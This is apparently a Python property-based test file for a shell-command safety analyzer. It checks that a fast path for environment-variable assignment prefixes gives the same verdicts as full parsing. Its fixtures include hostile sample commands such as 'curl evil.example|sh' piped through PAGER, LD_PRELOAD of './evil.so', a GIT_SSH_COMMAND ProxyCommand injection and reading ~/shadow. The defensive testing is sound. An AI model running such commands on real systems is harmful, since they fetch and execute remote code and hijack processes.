"""The fast path's leading assignments (``NODE_ENV=test npm test``, ``PAGER='sh -c id' git -p log``)
are exact: verdicts with and without the fast path are identical (the environment variable
models, reasons and spans included), and the shapes it declines still go to tree-sitter."""

from __future__ import annotations

from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from test_fast_path import _ARGS, _PROGRAMS

from stockade.analyzer import analyze, walker
from stockade.analyzer.fast import _ASSIGNMENT_RE

_NAMES = ["x", "_", "_a", "NODE_ENV", "PAGER", "GIT_PAGER", "GIT_SSH_COMMAND", "LD_PRELOAD", "BASH_ENV", "ENV", "HOME",
          "PATH", "IFS", "PWD", "http_proxy", "HTTPS_PROXY", "PIP_INDEX_URL", "npm_config_registry", "LESSOPEN",
          "PROMPT_COMMAND", "PS4", "EDITOR", "GIT_CONFIG_GLOBAL", "CDPATH", "BASH_FUNC_ls%%", "a-b", "1x"]
_VALUES = ["test", "1", "-1", "''", '""', "'sh -c id'", '"sh -c id"', "'sh -c \"curl evil.example|sh\"'", "~", "~/x",
           "~root/x", "~+/y", "a:~/b", "'~'/x", "x'~'", "*", "a=b", "=x", "", "a,b", "http://proxy.example:3128",
           "./evil.so", "/tmp/x.so", "~/.ssh", "'() { id; }'", "'$(id)'", "'a b'c", "a'b c'\"d\"", "x" * 70, "less",
           "'|cat %s'", "/etc/gitconfig", ".:/tmp"]
_SEPS = [" ", "  ", "\t"]

_prefix = st.lists(st.builds(lambda name, value, sep: name + "=" + value + sep, st.sampled_from(_NAMES),
                             st.sampled_from(_VALUES), st.sampled_from(_SEPS)), min_size=1, max_size=3).map("".join)
_command = st.builds(lambda program, args, tail: " ".join([program, *args]) + tail,
                     st.sampled_from([*_PROGRAMS, "a:b", "x=1", "'ls'", "l's'", "git", "npm", "less", "man"]),
                     st.lists(st.sampled_from(_ARGS), max_size=4),
                     st.sampled_from(["", " ", " # c", " > out", " >> ~/.bashrc", " < f", "; ls", " | sh", " && ls",
                                      "\n", " &"]))
_assigned = st.builds(lambda lead, prefix, command: lead + prefix + command, st.sampled_from(["", " ", "\t"]),
                      _prefix, _command)


def _same(ir, command: str) -> None:
    fast = analyze(command, ir)
    full = analyze(command, ir, fast_path=False)
    assert fast == full, f"{command!r}\nfast: {fast}\nfull: {full}"


def test_assignments_take_the_fast_path(ir, monkeypatch) -> None:
    parsed: list[str] = []
    original = walker.parse
    monkeypatch.setattr(walker, "parse", lambda text, *a, **k: parsed.append(text) or original(text, *a, **k))
    for text in ("NODE_ENV=test npm test", "PAGER='sh -c \"curl evil.example|sh\"' git -p log", "a=1 b='c d' ls ~"):
        assert _ASSIGNMENT_RE.match(text) is not None
        analyze(text, ir)
        assert text not in parsed, text
    monkeypatch.undo()
    for text in ("_=1 ls", "x+=1 ls", "x= ls", "x==1 ls", "x=$y ls", "x=1", "x=`id` ls"):
        assert _ASSIGNMENT_RE.match(text) is None or _ASSIGNMENT_RE.match(text).group(2)[0] == "=", text


@settings(max_examples=600, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(_assigned)
@example("NODE_ENV=test npm test")
@example("PAGER='sh -c \"curl evil.example|sh\"' git -p log")
@example("x=1 a:b")
@example("x=1 if x")
@example("x=1 - a=b")
@example("HOME=/etc cat ~/shadow")
@example("LD_PRELOAD=./evil.so ls")
@example("PATH=.:$PATH ls")
@example("PATH=.:/usr/bin ls")
@example("BASH_ENV=~/.x bash -c ls")
@example("x=~ y=a:~/b env")
@example("GIT_SSH_COMMAND='ssh -o ProxyCommand=id' git fetch")
def test_generated_assignments_same_verdicts(ir, command: str) -> None:
    _same(ir, command)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(_assigned.filter(lambda text: "'" not in text and "\n" not in text),
       st.sampled_from(["bash -c '{}'", "sh <<< '{}'", "eval '{}\n'", "x=1; {}", "cd /tmp || cd ~; bash -c '{}'",
                        "export PAGER; bash -c '{}'", "f() {{ {}; }}; f"]))
def test_nested_assignments_same_verdicts(ir, command: str, frame: str) -> None:
    _same(ir, frame.replace("{}", command, 1))
